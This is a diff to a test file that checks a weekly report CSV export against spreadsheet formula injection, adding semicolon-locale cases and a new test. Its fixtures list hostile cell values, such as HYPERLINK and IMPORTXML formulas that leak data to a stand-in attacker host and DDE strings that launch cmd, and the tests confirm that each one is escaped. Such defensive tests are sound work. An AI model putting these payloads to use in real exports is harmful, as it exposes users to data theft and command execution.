@@ -17,7 +17,13 @@ import { NOW, OCCURRED, scenario } from '../integration/reports-fixture.ts';
 const HOSTILE_STREAMS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\'/C notepad\'!\'A1\'', '@SUM(1+9)*cmd|\'/C calc\'!A0',
   '\t=1+1', '=DDE("cmd";"/C calc";"!A0")', '= 1',
+  // Harmless to a comma reader; split by a semicolon-locale spreadsheet (or the other way round) a part starts a formula.
+  'eu;=1+1', 'eu,=1+1', 'eu;-2+3;@SUM(1)', 'eu,+cmd|\' /C calc\'!A0',
 ];
+// What the separator-holding names read as: each part that starts a formula gets its own quote.
+const GUARDED: Record<string, string> = {
+  'eu;=1+1': "eu;'=1+1", 'eu,=1+1': "eu,'=1+1", 'eu;-2+3;@SUM(1)': "eu;'-2+3;'@SUM(1)", "eu,+cmd|' /C calc'!A0": "eu,'+cmd|' /C calc'!A0",
+};
 const TITLE = '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")';
 const FORMULA_START = /^[=+\-@\t\r]/;
 const NUMBER = /^-?\d+(\.\d+)?(e[-+]?\d+)?$/i;
@@ -55,7 +61,7 @@ describe('the weekly report CSV with hostile titles and stream names', () => {
     expect(Object.keys(rows[0] ?? {})).toEqual([...CSV_COLUMNS]);
     // Every hostile stream has its series in the report.
     const streams = new Set(rows.map((r) => r.stream));
-    for (const name of HOSTILE_STREAMS) expect(streams.has(`'${name}`), name).toBe(true);
+    for (const name of HOSTILE_STREAMS) expect(streams.has(GUARDED[name] ?? `'${name}`), name).toBe(true);
     let cells = 0;
     for (const row of rows) {
       expect(row.incident_title).toBe(`'${TITLE}`);
@@ -66,6 +72,21 @@ describe('the weekly report CSV with hostile titles and stream names', () => {
       }
     }
     console.log(`csv injection: ${rows.length} rows, ${cells} cells checked, ${HOSTILE_STREAMS.length + 1} hostile values neutralised`);
+  });
+
+  it('a semicolon-locale spreadsheet (quote-aware, or splitting on every , and ;) finds no cell that starts a formula', async () => {
+    const text = await (await app.request('/api/reports/2026-W06?format=csv&refresh=true')).text();
+    // Every text cell holding a separator of either locale is quoted.
+    for (const name of ['eu;=1+1', 'eu,=1+1']) expect(text).toContain(`"${name.replace(/([,;])=/, "$1'=")}"`);
+    const bySemicolon = parse(text, { delimiter: ';', relax_quotes: true, relax_column_count: true }) as string[][];
+    const naive = text.split(/\r\n/).flatMap((line) => line.split(/[,;]/)).map((cell) => cell.replace(/^"+|"+$/g, ''));
+    let cells = 0;
+    for (const value of [...bySemicolon.flat(), ...naive]) {
+      cells++;
+      if (NUMBER.test(value)) continue;
+      expect(FORMULA_START.test(value), JSON.stringify(value)).toBe(false);
+    }
+    console.log(`csv injection, semicolon readers: ${cells} cells checked`);
   });
 
   it('serves the CSV as a download, not as a page a browser would render', async () => {
